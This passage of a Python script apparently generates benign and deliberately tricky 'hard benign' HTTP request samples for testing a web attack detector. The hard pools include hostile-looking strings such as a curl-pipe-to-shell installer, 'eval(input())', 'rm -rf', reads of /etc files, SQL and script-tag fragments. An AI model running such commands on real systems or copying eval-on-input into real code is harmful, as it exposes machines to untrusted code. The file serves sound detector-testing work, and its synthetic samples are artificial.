    '"Hello World" --> "Goodbye Sleep"',
    "Pro tip: %APPDATA% is where your save files live 🎮",
]


def soch_post():
    return B(
        "json", R.choice(SOC_HARD_TEXT), SOC, "/v2/posts", client="api", json={"text": MARK, "visibility": "public"}
    )


def soch_comment():
    return B(
        "form",
        R.choice(SOC_HARD_TEXT),
        "forum.gearheads.community",
        "/t/%d/reply" % R.randint(1000, 99999),
        client="browser",
        form=[("raw", MARK), ("topic_id", rdigits(5)), ("authenticity_token", b64(rhex(32)))],
    )


def soch_search():
    q = R.choice(["#<3", '"drop the mic"', "from:@alice_dev OR from:@bob", "'; lol", "#c++ -#java", "1=1 meme"])
    return B("query", q, SOC, "/v2/search", q=[("q", MARK), ("type", "top")], plus=True)


def soch_multipart():
    return B(
        "multipart",
        R.choice(SOC_HARD_TEXT),
        SOC,
        "/v2/media/upload",
        client="api",
        mp=[("caption", None, None, MARK), ("media", "screenshot.png", "image/png", "\x89PNG\r\n\x1a\n")],
    )


SOC_H = [soch_post, soch_comment, soch_search, soch_multipart]

# ------------------------------------------------------------------- benign_analytics
ANA = "collect.metricvault.dev"
PAGES = [
    "/",
    "/pricing",
    "/blog/how-we-scaled-postgres",
    "/products/trail-runner-2",
    "/checkout",
    "/account/orders",
    "/docs/getting-started",
    "/careers",
]


def ana_track():
    ev = R.choice(["page_view", "add_to_cart", "signup_started", "video_play", "search", "checkout_completed"])
    doc = {
        "batch": [
            {
                "type": "track",
                "event": MARK,
                "anonymousId": ruuid(),
                "timestamp": rtime_iso(),
                "properties": {"path": R.choice(PAGES), "value": float(money(1, 300)), "currency": "EUR"},
                "context": {
                    "library": {"name": "analytics.js", "version": "4.1.0"},
                    "locale": "en-US",
                    "userAgent": R.choice(BROWSER_UAS),
                },
            }
        ]
    }
    return B("json", ev, ANA, "/v1/batch", client="browser", json=doc)


def ana_utm():
    c = R.choice(["spring_sale_2024", "newsletter-may", "retargeting_q2", "launch-week", "black_friday_early"])
    return B(
        "query",
        c,
        "shop.northwind-outfitters.com",
        R.choice(PAGES),
        client="browser",
        q=[
            ("utm_source", R.choice(["newsletter", "google", "facebook", "linkedin"])),
            ("utm_medium", R.choice(["email", "cpc", "social"])),
            ("utm_campaign", MARK),
            ("utm_content", R.choice(["hero-cta", "footer-link", "banner_a"])),
            ("gclid", ralnum(40)),
        ],
    )


def ana_collect():
    page = "https://shop.northwind-outfitters.com%s?ref=%s" % (R.choice(PAGES), R.choice(["home", "nav", "search"]))
    return B(
        "query",
        page,
        "www.google-analytics.com",
        "/g/collect",
        client="browser",
        q=[
            ("v", "2"),
            ("tid", "G-" + ralnum(10).upper()),
            ("cid", "%s.%s" % (rdigits(10), rdigits(10))),
            ("en", "page_view"),
            ("dl", MARK),
            ("dr", "https://www.google.com/"),
            ("dt", "Northwind Outfitters"),
            ("sr", "1920x1080"),
            ("ul", "en-us"),
        ],
    )


def ana_beacon():
    v = "%.3f" % (R.random() * 0.3)
    return B(
        "form",
        v,
        ANA,
        "/v1/vitals",
        client="browser",
        form=[
            ("name", "CLS"),
            ("value", MARK),
            ("id", "v3-%s-%s" % (rdigits(13), rdigits(13))),
            ("page", R.choice(PAGES)),
            ("nav", R.choice(["navigate", "reload", "back-forward"])),
        ],
    )


def ana_perf():
    lcp = R.randint(800, 4200)
    return B(
        "json",
        {"LCP": lcp, "FID": R.randint(5, 180), "CLS": round(R.random() * 0.25, 3), "TTFB": R.randint(60, 900)},
        ANA,
        "/v1/rum",
        client="browser",
        json={"page": R.choice(PAGES), "metrics": MARK, "conn": R.choice(["4g", "wifi"])},
    )


def ana_flags():
    v = "; ".join(
        "%s=%s" % (k, R.choice(["A", "B", "control"]))
        for k in R.sample(["checkout_v2", "pricing_page", "new_nav", "reco_model"], 2)
    )
    return B("header", v, "shop.northwind-outfitters.com", "/api/cart", client="api", hname="X-Experiments")


def ana_cookie():
    v = '{"id":"%s","created":%d,"sessions":%d}' % (ruuid(), 1714000000000 + R.randint(0, 9999999), R.randint(1, 40))
    return B(
        "cookie",
        v,
        "shop.northwind-outfitters.com",
        R.choice(PAGES),
        client="browser",
        cookies=[
            ("_ga", "GA1.1.%s.%s" % (rdigits(10), rdigits(10))),
            ("mv_uid", MARK),
            ("_gid", "GA1.1.%s" % rdigits(10)),
        ],
    )


def ana_identify():
    plan = R.choice(["free", "pro", "team", "enterprise"])
    return B(
        "json",
        plan,
        "events.chirpnest.social",
        "/v1/identify",
        client="api",
        json={
            "userId": "u_" + rhex(12),
            "traits": {
                "plan": MARK,
                "company": R.choice(COMPANIES),
                "seats": R.randint(1, 200),
                "createdAt": rtime_iso(),
            },
        },
    )


def ana_replay():
    chunk = json.dumps(
        {
            "events": [
                {"t": R.randint(0, 5000), "type": "mousemove", "x": R.randint(0, 1900), "y": R.randint(0, 1000)}
                for _ in range(3)
            ]
        },
        separators=(",", ":"),
    )
    return B(
        "multipart",
        chunk,
        ANA,
        "/v1/replay/chunks",
        client="browser",
        mp=[("session", None, None, ruuid()), ("chunk", "chunk-%d.json" % R.randint(1, 99), "application/json", MARK)],
    )


ANA_N = [ana_track, ana_utm, ana_collect, ana_beacon, ana_perf, ana_flags, ana_cookie, ana_identify, ana_replay]
STACKS = [
    "TypeError: Cannot read properties of undefined (reading 'map')\n    at ProductList (webpack-internal:///./src/ProductList.jsx:42:17)\n    at renderWithHooks (react-dom.development.js:16305:18)",
    "SyntaxError: Unexpected token '<', \"<!DOCTYPE \"... is not valid JSON\n    at JSON.parse (<anonymous>)\n    at fetchCart (app.3f9a.js:1:8812)",
    "ReferenceError: gtag is not defined\n    at eval (eval at <anonymous> (tagmanager.js:1:2044), <anonymous>:1:1)",
    "Error: Request failed with status code 500\n    at createError (axios.js:1:9920)\n    at XMLHttpRequest.onloadend (axios.js:1:7801)",
    "Uncaught (in promise) DOMException: The play() request was interrupted by a call to pause().",
]


def anah_error():
    return B(
        "json",
        R.choice(STACKS),
        ANA,
        "/v1/errors",
        client="browser",
        json={
            "message": MARK,
            "url": "https://shop.northwind-outfitters.com" + R.choice(PAGES),
            "release": "web@4.18.%d" % R.randint(0, 9),
        },
    )


def anah_click():
    sel = R.choice(
        [
            'a[href="javascript:void(0)"].js-open-menu',
            "div#cart > button.add-to-cart:nth-child(2)",
            "form[action='/search'] input[name=q]",
            'a[href^="mailto:"]',
            "button[onclick] > span.label",
            "li:not(.disabled) > a[data-id='42']",
        ]
    )
    return B(
        "json",
        sel,
        ANA,
        "/v1/clicks",
        client="browser",
        json={"selector": MARK, "path": R.choice(PAGES), "x": R.randint(0, 1900)},
    )


def anah_title():
    t = R.choice(
        [
            'Search results for "select" – Northwind',
            "Cart (2) <Northwind Outfitters>",
            "O'Neill Wetsuits | Sale -50%",
            "Docs » Using <script> tags safely",
            "Union Jack Cushion – Home & Living",
        ]
    )
    return B(
        "query",
        t,
        "www.google-analytics.com",
        "/g/collect",
        client="browser",
        q=[
            ("v", "2"),
            ("tid", "G-" + ralnum(10).upper()),
            ("en", "page_view"),
            ("dt", MARK),
            ("dl", "https://shop.northwind-outfitters.com/"),
        ],
    )


def anah_searchterm():
    s = R.choice(
        [
            "drop earrings",
            "select comfort",
            "union suit",
            "script font",
            "1/2 zip fleece",
            "exec chair",
            '"red dress" -maxi',
        ]
    )
    return B(
        "json",
        s,
        ANA,
        "/v1/batch",
        client="browser",
        json={
            "batch": [{"type": "track", "event": "search", "properties": {"query": MARK, "results": R.randint(0, 200)}}]
        },
    )


def anah_referrer():
    r = R.choice(
        [
            "https://www.google.com/url?sa=t&rct=j&q=&esrc=s&url=https%3A%2F%2Fshop.example%2F%3Fid%3D1",
            "https://l.facebook.com/l.php?u=https%3A%2F%2Fshop.northwind-outfitters.com%2F&h=AT0",
            "android-app://com.google.android.gm/",
            "https://out.reddit.com/t3_1cx9?url=https%3A%2F%2Fexample.com&token=AQ",
        ]
    )
    return B(
        "json",
        r,
        ANA,
        "/v1/batch",
        client="browser",
        json={"batch": [{"type": "page", "properties": {"referrer": MARK, "path": R.choice(PAGES)}}]},
    )


def anah_ua():
    u = R.choice(
        [
            "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36 [FBAN/EMA;FBLC/en_US;FBAV/404.0.0.10.108;]",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Instagram 327.0.0.0.82 (iPhone15,3; iOS 17_4; en_US)",
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
        ]
    )
    return B(
        "header",
        u,
        "shop.northwind-outfitters.com",
        R.choice(PAGES),
        client="browser",
        hname="User-Agent",
        noextra=True,
    )


ANA_H = [anah_error, anah_click, anah_title, anah_searchterm, anah_referrer, anah_ua]


# ------------------------------------------------------------------- benign_code_snippets
PASTE = "api.pastebox.dev"
SNIP_NORMAL = [
    ("python", "squares = [x * x for x in range(10) if x % 2 == 0]\nprint(squares)"),
    ("python", "from dataclasses import dataclass\n\n@dataclass\nclass Point:\n    x: float\n    y: float\n"),
    (
        "javascript",
        "const res = await fetch('/api/items?page=2');\nconst data = await res.json();\nconsole.log(data.items.length);",
    ),
    (
        "css",
        ".card {\n  display: grid;\n  grid-template-columns: repeat(auto-fill, minmax(240px, 1fr));\n  gap: 1rem;\n}",
    ),
    ("go", "func sum(xs []int) int {\n\ttotal := 0\n\tfor _, x := range xs {\n\t\ttotal += x\n\t}\n\treturn total\n}"),
    ("rust", 'fn main() {\n    let v: Vec<u32> = (1..=5).collect();\n    println!("{:?}", v);\n}'),
    (
        "yaml",
        "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  replicas: 3\n  template:\n    spec:\n      containers:\n        - name: web\n          image: nginx:1.25\n",
    ),
    (
        "json",
        '{\n  "compilerOptions": {\n    "target": "ES2022",\n    "strict": true,\n    "moduleResolution": "bundler"\n  }\n}',
    ),
    ("markdown", "# Setup\n\n1. Clone the repo\n2. Run `npm install`\n3. Copy `.env.example` to `.env`\n"),
    (
        "typescript",
        "type User = { id: string; email: string; roles: ('admin' | 'member')[] };\nexport const isAdmin = (u: User) => u.roles.includes('admin');",
    ),
    ("kotlin", "data class Order(val id: Long, val total: BigDecimal)\nfun List<Order>.revenue() = sumOf { it.total }"),
    ("toml", '[tool.pytest.ini_options]\naddopts = "-ra -q"\ntestpaths = ["tests"]\n'),
]
SNIP_HARD = [
    (
        "python",
        'import subprocess\nresult = subprocess.run(["ls", "-la", "/var/log"], capture_output=True, text=True)\nprint(result.stdout)',
    ),
    ("python", '# don\'t do this in prod!\nvalue = eval(input("expr> "))\nprint(value)'),
    ("python", 'import os\nos.system("rm -rf ./build && mkdir build")'),
    ("javascript", "document.getElementById('out').innerHTML = '<b>' + escapeHtml(name) + '</b>';"),
    (
        "javascript",
        '<script src="https://cdn.jsdelivr.net/npm/chart.js@4.4.2/dist/chart.umd.min.js"></script>\n<script>\n  new Chart(ctx, cfg);\n</script>',
    ),
    (
        "javascript",
        "const { exec } = require('child_process');\nexec('git rev-parse HEAD', (err, stdout) => console.log(stdout.trim()));",
    ),
    (
        "sql",
        "DROP TABLE IF EXISTS staging_orders;\nCREATE TABLE staging_orders AS SELECT * FROM orders WHERE created_at >= '2024-01-01';",
    ),
    (
        "sql",
        "SELECT u.id, u.email FROM users u\nWHERE u.last_login < NOW() - INTERVAL '90 days'\n  AND u.email NOT LIKE '%@example.com'\nUNION ALL\nSELECT id, email FROM invited_users;",
    ),
    ("sql", "-- find duplicates\nSELECT email, COUNT(*) FROM customers GROUP BY email HAVING COUNT(*) > 1;"),
    (
        "bash",
        '#!/usr/bin/env bash\nset -euo pipefail\nfor f in /var/log/app/*.log; do gzip "$f"; done\nrm -rf /tmp/app-cache/*',
    ),
    ("bash", "curl -fsSL https://get.docker.com | sh\nsudo usermod -aG docker $USER"),
    ("bash", "cat /etc/os-release && uname -a && whoami"),
    ("php", "<?php\n$q = $_GET['q'] ?? '';\necho htmlspecialchars($q, ENT_QUOTES, 'UTF-8');\n?>"),
    ("php", "<?php\n$stmt = $pdo->prepare('SELECT * FROM users WHERE email = ?');\n$stmt->execute([$email]);"),
    (
        "java",
        "int cores = Runtime.getRuntime().availableProcessors();\nExecutorService pool = Executors.newFixedThreadPool(cores);",
    ),
    ("java", '@Value("${app.timeout:30}")\nprivate int timeoutSeconds;'),
    (
        "yaml",
        "name: CI\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm test\n        env:\n          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n",
    ),
    (
        "yaml",
        "image:\n  repository: {{ .Values.image.repository }}\n  tag: {{ .Values.image.tag | default .Chart.AppVersion }}\n",
    ),
    (
        "dockerfile",
        'FROM python:3.12-slim\nRUN apt-get update && apt-get install -y --no-install-recommends curl \\\n    && rm -rf /var/lib/apt/lists/*\nCOPY . /app\nCMD ["gunicorn", "app:app", "-b", "0.0.0.0:8000"]',
    ),
    ("erb", "<% @orders.each do |o| %>\n  <li><%= link_to o.number, order_path(o) %></li>\n<% end %>"),
    ("jinja", "{% for item in items %}\n  <li>{{ item.name | e }}</li>\n{% endfor %}"),
    (
        "nginx",
        "location ~ \\.php$ {\n    include fastcgi_params;\n    fastcgi_pass unix:/run/php/php8.2-fpm.sock;\n}\nlocation /static/ { alias /srv/app/static/; }",
    ),
    (
        "xml",
        '<Configuration status="WARN">\n  <Appenders>\n    <Console name="Console"><PatternLayout pattern="%d{HH:mm:ss} [%t] %-5level %logger{36} - %msg%n"/></Console>\n  </Appenders>\n</Configuration>',
    ),
    (
        "powershell",
        "Get-ChildItem -Path C:\\Logs -Filter *.log | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-7) } | Remove-Item",
    ),
    ("apache", "RewriteEngine On\nRewriteCond %{REQUEST_FILENAME} !-f\nRewriteRule ^(.*)$ index.php?route=$1 [QSA,L]"),
]


def code_paste(pool):
    lang, src = R.choice(pool)
    return B(
        "json",
        src,
        PASTE,
        "/api/v1/pastes",
        client="api",
        json={
            "title": R.choice(["snippet", "helper", "repro", "config", "wip"]) + "-" + rhex(4),
            "language": lang,
            "content": MARK,
            "visibility": R.choice(["public", "unlisted"]),
            "expires": "1w",
        },
    )


def code_issue(pool):
    lang, src = R.choice(pool)
    body = "Steps to reproduce:\n\n```%s\n%s\n```\n\nExpected it to work on v%d.%d." % (
        lang,
        src,
        R.randint(1, 5),
        R.randint(0, 20),
    )
    return B(
        "json",
        body,
        "tracker.taskgrid.io",
        "/api/issues/%d/comments" % R.randint(100, 9999),
        client="browser",
        json={"body": MARK, "format": "markdown"},
    )


def code_upload(pool):
    lang, src = R.choice(pool)
    ext = {
        "python": "py",
        "javascript": "js",
        "css": "css",
        "go": "go",
        "rust": "rs",
        "yaml": "yml",
        "json": "json",
        "markdown": "md",
        "typescript": "ts",
        "kotlin": "kt",
        "toml": "toml",
        "sql": "sql",
        "bash": "sh",
        "php": "php",
        "java": "java",
        "dockerfile": "Dockerfile",
        "erb": "html.erb",
        "jinja": "html.j2",
        "nginx": "conf",
        "xml": "xml",
        "powershell": "ps1",
        "apache": "htaccess",
    }[lang]
    return B(
        "multipart",
        src,
        "gist.codebin.io",
        "/upload",
        client="browser",
        mp=[("description", None, None, "shared from my editor"), ("file", "snippet." + ext, "text/plain", MARK)],
    )


def code_form(pool):
    lang, src = R.choice(pool)
    return B(
        "form",
        src,
        "gist.codebin.io",
        "/new",
        client="browser",
        form=[("title", "untitled"), ("syntax", lang), ("code", MARK), ("expire", "N")],
    )


def code_search():
    q = R.choice(
        [
            "useEffect cleanup",
            "async def main",
            "grid-template-areas",
            "impl Display for",
            "kubectl rollout restart",
            "pytest fixture scope",
            "git rebase -i HEAD~3",
        ]
    )
    return B("query", q, "gist.codebin.io", "/search", q=[("q", MARK), ("l", "any")], plus=True)


def code_pom():
    doc = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<project xmlns="http://maven.apache.org/POM/4.0.0">\n  <modelVersion>4.0.0</modelVersion>\n'
        "  <groupId>io.ledgerline</groupId>\n  <artifactId>billing-%s</artifactId>\n  <version>1.%d.0</version>\n  <dependencies>\n"
        "    <dependency><groupId>org.springframework.boot</groupId><artifactId>spring-boot-starter-web</artifactId></dependency>\n"
        "  </dependencies>\n</project>\n"
    ) % (rhex(4), R.randint(0, 30))
    return B(
        "xml", doc, "ci.ledgerline.io", "/api/projects/%d/pom" % R.randint(1, 400), client="api", method="PUT", xml=None
    )


CODE_N = [
    lambda: code_paste(SNIP_NORMAL),
    lambda: code_issue(SNIP_NORMAL),
    lambda: code_upload(SNIP_NORMAL),
    lambda: code_form(SNIP_NORMAL),
    code_search,
    code_pom,
]
CODE_H = [
    lambda: code_paste(SNIP_HARD),
    lambda: code_issue(SNIP_HARD),
    lambda: code_upload(SNIP_HARD),
    lambda: code_form(SNIP_HARD),
]

# ------------------------------------------------------------------- benign_richtext
HTML_N = [
    '<p>Hi team,</p><p><strong>Reminder:</strong> the <a href="https://wiki.meridian-logistics.com/q2-report">Q2 report</a> is due <em>Friday</em>.</p>',
    "<h2>Release notes</h2><ul><li>Faster search</li><li>Dark mode</li><li>Bug fixes</li></ul>",
    '<p>Please find the chart below:</p><p><img src="https://cdn.lumenhome.store/uploads/2024/05/chart.png" alt="Sales chart" width="600"></p>',
    "<table><thead><tr><th>Item</th><th>Qty</th></tr></thead><tbody><tr><td>Lamp</td><td>2</td></tr></tbody></table>",
    "<blockquote><p>Simplicity is prerequisite for reliability.</p></blockquote><p>— Dijkstra</p>",
    '<p><span style="color: rgb(230, 0, 0);">Urgent:</span> warehouse closes at 4pm today.</p>',
    "<ol><li>Open the app</li><li>Tap <b>Settings</b></li><li>Choose <i>Notifications</i></li></ol>",
    '<p>Welcome aboard, Zoë! 🎉 Your onboarding buddy is <a href="mailto:grace.kim@taskgrid.io">Grace</a>.</p>',
]
MD_N = [
    "## Weekly update\n\n- Shipped **invoice export**\n- Fixed _timezone_ bug\n\nSee [the board](https://app.taskgrid.io/board/12).",
    "### Recipe\n\n1. Preheat oven to 180°C\n2. Mix flour & sugar\n3. Bake 25 min\n\n> Tip: use room-temperature butter.",
    "![diagram](https://cdn.taskgrid.io/img/arch-v2.png)\n\nThe new architecture splits ingestion from processing.",
    "| Metric | Value |\n|---|---|\n| Uptime | 99.97% |\n| p95 | 212 ms |",
]
HTML_H = [
    '<p>Intro video:</p><iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" title="YouTube video player" frameborder="0" allowfullscreen></iframe>',
    '<p>See the <a href="../handbook/pto.html">PTO policy</a> and <a href="../../benefits/index.html">benefits</a>.</p>',
    '<p>To embed the widget, paste <code>&lt;script src="https://widget.helpdeskly.com/v1.js"&gt;&lt;/script&gt;</code> before <code>&lt;/body&gt;</code>.</p>',
    '<style>p{margin:0;font-family:Arial,sans-serif} .btn{background:#0a84ff;color:#fff}</style><p>Hello {{first_name}},</p><p><a class="btn" href="https://lumenhome.store/sale">Shop now</a></p>',
    '<p>Screenshot:</p><p><img src="data:image/png;base64,' + b64(png_bytes()) + '" alt="pasted image"></p>',
    '<p><a href="mailto:support@helpdeskly.com?subject=Order%20issue&amp;body=Hi%20there">Email support</a></p>',
    "<details><summary>Show SQL</summary><pre><code class=\"language-sql\">SELECT id, status FROM tickets WHERE status = 'open';</code></pre></details>",
    "<p><span style=\"font-family: 'Courier New', monospace;\">rm -rf ./dist</span> then rebuild.</p>",
    '<svg width="16" height="16" viewBox="0 0 16 16"><path d="M8 0L10 6H16L11 10L13 16L8 12L3 16L5 10L0 6H6Z" fill="#f5b301"/></svg> Starred',
    '<div data-embed=\'{"type":"tweet","id":"1788"}\' class="embed"></div><p>Thoughts?</p>',
    "<p>Use <kbd>Ctrl</kbd> + <kbd>Alt</kbd> + <kbd>Del</kbd> &amp; then choose <q>Task Manager</q>.</p>",
]
MD_H = [
    '```html\n<script src="https://cdn.jsdelivr.net/npm/alpinejs@3.14.0/dist/cdn.min.js" defer></script>\n```\nThen add `x-data` to your root element.',
    "Run this:\n\n```bash\nsudo rm -rf /var/cache/apt/archives/*.deb && sudo apt-get clean\n```",
    "See [setup guide](../docs/setup.md) and [FAQ](../../FAQ.md#what-is-1%3D1).",
    "> **Note**: `SELECT * FROM users WHERE 1=1` is only used in the query builder as a base clause.",
    "<details>\n<summary>Logs</summary>\n\n```\nERROR 2024-05-02 <main> NullPointerException at Foo.java:42\n```\n</details>",
]


def rt_cms(pool):
    t = R.choice(pool)
    return B(
        "json",
        t,
        "cms.lumenhome.store",
        "/api/pages/%d" % R.randint(1, 900),
        client="api",
        method=R.choice(["PUT", "PATCH"]),
        json={
            "title": R.choice(["About us", "Spring sale", "Shipping info", "Team update"]),
            "body_html": MARK,
            "status": "draft",
        },
    )


def rt_form(pool):
    t = R.choice(pool)
    return B(
        "form",
        t,
        "app.helpdeskly.com",
        "/tickets/%d/reply" % R.randint(1000, 99999),
        client="browser",
        form=[("utf8", "✓"), ("authenticity_token", b64(rhex(32))), ("comment[body]", MARK), ("comment[public]", "1")],
    )


def rt_mail(pool):
    t = R.choice(pool)
    return B(
        "multipart",
        t,
        "mail.taskgrid.io",
        "/api/drafts",
        client="browser",
        mp=[
            ("to", None, None, email_for(R.choice(NAMES))),
            ("subject", None, None, "Update"),
            ("html", None, None, MARK),
            ("attachment", "notes.txt", "text/plain", "see above"),
        ],
    )


def rt_wiki(pool):
    t = R.choice(pool)
    return B(
        "json",
        t,
        "wiki.meridian-logistics.com",
        "/api/v2/pages/%d/revisions" % R.randint(1, 900),
        client="api",
        json={"format": "markdown", "content": MARK, "minor": False, "summary": "edit"},
    )


def rt_atom():
    frag = R.choice(
        [
            "<p>Our <strong>summer hours</strong> start June 1.</p>",
            "<ul><li>New arrivals</li><li>Free returns</li></ul>",
        ]
    )
    doc = (
        '<?xml version="1.0" encoding="utf-8"?>\n<entry xmlns="http://www.w3.org/2005/Atom"><title>%s</title>'
        "<id>urn:uuid:%s</id><updated>%s</updated><author><name>%s</name></author>"
        '<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">%s</div></content></entry>'
    ) % (R.choice(["Summer hours", "New arrivals"]), ruuid(), rtime_iso(), xesc(R.choice(NAMES)), frag)
    return B(
        "xml",
        doc,
        "cms.lumenhome.store",
        "/atompub/entries",
        client="api",
        xml=None,
        ctype="application/atom+xml;type=entry",
    )


RT_N = [
    lambda: rt_cms(HTML_N),
    lambda: rt_form(HTML_N),
    lambda: rt_mail(HTML_N),
    lambda: rt_wiki(MD_N),
    rt_atom,
    lambda: rt_cms(MD_N),
]


def rt_h_gen():
    return R.choice(
        [
            '<p>Recording:</p><iframe src="https://player.vimeo.com/video/%d?h=%s" width="640" height="360" allow="autoplay; fullscreen"></iframe>'
            % (R.randint(10**8, 10**9), rhex(10)),
            '<p>Details in <a href="../%s/README.html">the %s notes</a>.</p>'
            % (
                R.choice(["ops", "sales", "hr", "eng"]),
                R.choice(["sprint %d" % R.randint(1, 40), "Q%d" % R.randint(1, 4)]),
            ),
            "<pre><code>SELECT * FROM invoices WHERE due_date &lt; CURRENT_DATE - %d;</code></pre>" % R.randint(7, 90),
            '<p>Logo:</p><img src="data:image/png;base64,%s" alt="logo">'
            % b64(png_bytes(2, 2, (R.randrange(256), R.randrange(256), R.randrange(256)))),
            '<p>Paste <code>&lt;iframe src="https://forms.helpdeskly.com/f/%s"&gt;&lt;/iframe&gt;</code> into your site.</p>'
            % ralnum(8),
        ]
    )


RT_H = [
    lambda: rt_cms([rt_h_gen()]),
    lambda: rt_form([rt_h_gen()]),
    lambda: rt_cms(HTML_H),
    lambda: rt_form(HTML_H),
    lambda: rt_mail(HTML_H),
    lambda: rt_wiki(MD_H),
    lambda: rt_form(MD_H),
]

# ------------------------------------------------------------------- benign_search
SEARCH_N = [
    "red dress",
    "running shoes women size 8",
    "bluetooth speaker waterproof",
    "standing desk",
    "kids rain jacket",
    "espresso machine",
    "linen bedding",
    "cast iron pan",
    "noise cancelling headphones",
    "yoga mat",
    "winter boots",
    "desk lamp",
    "backpack 30l",
    "coffee grinder",
    "garden hose",
    "wool socks",
    "air fryer",
    "phone case",
    "usb-c hub",
]
SEARCH_H = [
    '"red dress" -maxi',
    "laptop AND (16GB OR 32GB) NOT refurbished",
    'title:"The Hitchhiker\'s Guide"',
    "site:docs.python.org asyncio",
    "price:[100 TO 500]",
    "wild*",
    "fo?bar",
    "c++ vs c#",
    "select comfort mattress",
    "union jack cushion",
    "drop earrings gold",
    '1/2" drill bit',
    "script font tattoo",
    "<3 necklace",
    "5' 10\" curtains",
    "how to prevent sql injection in php",
    "what does ../ mean in a path",
    "javascript alert box styling",
    "exec chair leather",
    "sleep(5) python vs time.sleep",
    "cat /etc/hosts mac",
    "echo dot 5th gen",
    "shell jacket men's",
    "union square hotels",
    "iframe vs embed",
    "O'Neill wetsuit 4/3",
    "table -lamp",
    "where vs were",
    "null pointer exception meaning",
    "ls -la explained",
]
SHOPS = [
    ("shop.northwind-outfitters.com", "/search", "q"),
    ("www.lumenhome.store", "/catalogsearch/result/", "q"),
    ("search.docs-hub.dev", "/api/search", "query"),
    ("library.quadrant-academy.edu", "/discover", "lookfor"),
]


def srch_q(pool):
    host, path, p = R.choice(SHOPS)
    return B("query", R.choice(pool), host, path, q=[(p, MARK), ("page", str(R.randint(1, 3)))], plus=R.random() < 0.6)


def srch_json(pool):
    return B(
        "json",
        R.choice(pool),
        "search.docs-hub.dev",
        "/api/v2/search",
        client="api",
        json={"query": MARK, "filters": {"lang": ["en"]}, "size": 20, "from": 0},
    )


def srch_form(pool):
    return B(
        "form",
        R.choice(pool),
        "www.lumenhome.store",
        "/search",
        client="browser",
        form=[("q", MARK), ("category", R.choice(["all", "home", "garden"])), ("sort", "relevance")],
    )


def srch_path(pool):
    return B("path", R.choice(pool), "shop.northwind-outfitters.com", "/s/" + MARK, client="browser", safe="")


def srch_suggest():
    return B(
        "query",
        R.choice(SEARCH_N)[: R.randint(2, 6)],
        "shop.northwind-outfitters.com",
        "/api/suggest",
        client="browser",
        q=[("term", MARK), ("limit", "8")],
    )


def srch_facet():
    v = R.choice(["brand:Patagonia", "color:navy|black", "size:M,L", "price:50-100", "rating:>=4"])
    return B(
        "query",
        v,
        "shop.northwind-outfitters.com",
        "/search",
        client="browser",
        q=[("q", R.choice(SEARCH_N)), ("f", MARK), ("sort", R.choice(["price_asc", "newest"]))],
    )


SRCH_N = [
    lambda: srch_q(SEARCH_N),
    lambda: srch_json(SEARCH_N),
    lambda: srch_form(SEARCH_N),
    lambda: srch_path(SEARCH_N),
    srch_suggest,
    srch_facet,
]
SRCH_H = [
    lambda: srch_q(SEARCH_H),
    lambda: srch_json(SEARCH_H),
    lambda: srch_form(SEARCH_H),
    lambda: srch_path(SEARCH_H),
]


# ------------------------------------------------------------------- benign_graphql
def gq_n():
    uid = "u_" + rhex(6)
    n = R.choice([5, 10, 20, 25, 50])
    return R.choice(
        [
            'query GetUser {\n  user(id: "%s") {\n    id\n    name\n    avatarUrl\n  }\n}' % uid,
            "query Feed($after: String) {\n  feed(first: %d, after: $after) {\n    edges { node { id text createdAt author { handle } } }\n    pageInfo { hasNextPage endCursor }\n  }\n}"
            % n,
            'mutation AddToCart {\n  addToCart(sku: "SKU-%s", quantity: %d) { cart { id totalQuantity } }\n}'
            % (rdigits(5), R.randint(1, 4)),
            'query Product {\n  product(slug: "%s") {\n    ...ProductCard\n    description\n  }\n}\n\nfragment ProductCard on Product {\n  id\n  name\n  price { amount currency }\n}'
            % R.choice(["trail-runner-2", "oak-desk-lamp", "linen-duvet", "wool-socks-3pk", "rain-shell"]),
            "query Tasks($withDetails: Boolean!) {\n  tasks(status: OPEN, first: %d) {\n    id\n    title\n    details @include(if: $withDetails) { body dueAt }\n  }\n}"
            % n,
            "query {\n  me { id email }\n  unread: notifications(read: false) { totalCount }\n  recent: notifications(first: %d) { nodes { id message } }\n}"
            % n,
            "mutation UpdateProfile($input: UpdateProfileInput!) {\n  updateProfile(input: $input) { user { id displayName bio } errors { field message } }\n}",
            'subscription OnMessage {\n  messageAdded(roomId: "room_%s") { id body sender { name } }\n}' % rhex(5),
            "query Orders {\n  orders(first: %d, status: SHIPPED) { nodes { id number total { amount currency } } }\n}"
            % n,
        ]
    )


def gq_h():
    pat = R.choice(["%smith%", "%son", "o'%", "%@example.com", "mc%"])
    return R.choice(
        [
            "query IntrospectionQuery {\n  __schema {\n    queryType { name }\n    mutationType { name }\n    types { ...FullType }\n  }\n}\n\nfragment FullType on __Type {\n  kind\n  name\n  fields(includeDeprecated: %s) { name args { name } type { name kind } }\n}"
            % R.choice(["true", "false"]),
            'query SearchPeople {\n  people(where: {_or: [{last_name: {_ilike: "%s"}}, {email: {_like: "%%@example.com"}}]}, limit: %d) {\n    id\n    last_name\n  }\n}'
            % (pat, R.randint(5, 50)),
            'mutation Post {\n  createComment(input: {postId: "p_%d", body: "O\'Brien\'s point -- \\"select all\\" doesn\'t work <b>here</b>"}) {\n    comment { id }\n  }\n}'
            % R.randint(1, 9999),
            "query {\n  orders(filter: {status: {in: [PAID, SHIPPED]}, total: {gte: %d}}, orderBy: {createdAt: DESC}) {\n    id\n    __typename\n  }\n}"
            % R.randint(10, 900),
            '# fetch dashboard widgets\nquery Dash {\n  widgets(board: "%s") { id type config }  # config is JSON\n}'
            % rhex(6),
